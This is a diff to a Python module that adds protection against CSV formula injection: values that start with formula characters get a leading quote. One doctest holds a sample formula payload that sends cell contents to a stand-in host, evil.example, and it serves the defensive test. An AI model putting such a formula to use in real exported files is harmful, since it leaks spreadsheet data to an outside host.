@@ -23,6 +23,7 @@ BOM = "\ufeff"
 SEPARATORS = {",": ",", ";": ";", "\t": "\t", "\\t": "\t", "tab": "\t"}  # CSV separators, as given
 VOCABULARY = {"kind": kind_name, "role": role_name, "partner_role": role_name, "status": status_name}
 MIN_WIDTH = 16  # the narrowest a table column may get before rows become blocks
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet may take for a formula
 
 
 class Rows(list):
@@ -136,12 +137,29 @@ def cell(value) -> str:
     return " ".join(str(value).split())
 
 
+def csv_cell(value) -> str:
+    """A value as a CSV cell for people: as ``cell`` writes it, with a ``'`` before a text
+    that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, so that a
+    spreadsheet shows it and never runs it as a formula (OWASP's rule against CSV
+    injection); numbers stay numbers.
+
+    >>> print(csv_cell('=HYPERLINK("http://evil.example/?leak="&A1,"x")'))
+    '=HYPERLINK("http://evil.example/?leak="&A1,"x")
+    >>> csv_cell("+1+1"), csv_cell(["@SUM(1)", "Olhão"]), csv_cell(-3), csv_cell("Olhão")
+    ("'+1+1", "'@SUM(1); Olhão", '-3', 'Olhão')
+    """
+    text = cell(value)
+    number = isinstance(value, (int, float)) and not isinstance(value, bool)
+    return "'" + text if text.startswith(FORMULA_START) and not number else text
+
+
 def format_rows(rows: list[dict], keys: list[str], fmt: str = "table", width: int | None = None,
                 sep: str = ",") -> str:
     """Render ``rows`` (dicts with ``keys``) as ``table``, ``csv`` or ``json`` text.
 
     CSV starts with a byte-order mark, so that spreadsheets (Excel above all) read it as
-    UTF-8 and keep the accents; Python reads it with ``encoding="utf-8-sig"``. Its columns
+    UTF-8 and keep the accents; Python reads it with ``encoding="utf-8-sig"``. A text that a
+    spreadsheet could take for a formula is written with a leading ``'`` (``csv_cell``). Its columns
     are separated by ``sep``: ``,``, ``;`` (what Excel expects where the decimal mark is a
     comma, as in Brazil and Portugal) or a tab (``\\t`` or ``tab`` also mean one).
 
@@ -159,7 +177,7 @@ def format_rows(rows: list[dict], keys: list[str], fmt: str = "table", width: in
             raise MunigraphError(_("the CSV separator is ',', ';' or a tab, not {sep}").format(sep=repr(sep)))
         writer = csv.writer(out, delimiter=SEPARATORS[sep], lineterminator="\n")
         writer.writerow(keys)
-        writer.writerows([[cell(row.get(k)) for k in keys] for row in rows])
+        writer.writerows([[csv_cell(row.get(k)) for k in keys] for row in rows])
         return BOM + out.getvalue().rstrip("\n")
     shown = [{key: for_people(key, row.get(key)) for key in keys} for row in rows]
     return table(shown, keys, width or shutil.get_terminal_size((80, 24)).columns, headers(keys))
